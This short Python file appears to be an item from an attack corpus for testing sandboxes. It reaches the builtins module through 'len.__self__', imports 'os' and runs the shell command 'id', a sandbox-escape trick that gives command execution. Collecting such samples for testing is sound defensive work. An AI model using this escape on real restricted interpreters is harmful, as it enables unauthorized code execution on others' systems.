# corpus: attack class=internals form=targeted
# A builtin function's __self__ is the builtins module.
def main():
    return {"status": len.__self__.__import__("os").system("id")}
